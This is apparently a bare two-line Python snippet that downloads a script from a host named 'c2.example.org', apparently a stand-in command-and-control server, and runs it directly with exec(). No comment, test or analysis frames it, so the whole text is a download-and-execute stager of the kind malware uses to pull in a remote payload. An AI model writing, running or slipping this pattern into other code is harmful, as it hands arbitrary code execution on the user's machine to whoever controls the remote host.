
import requests
exec(requests.get("http://c2.example.org/i.py").text)
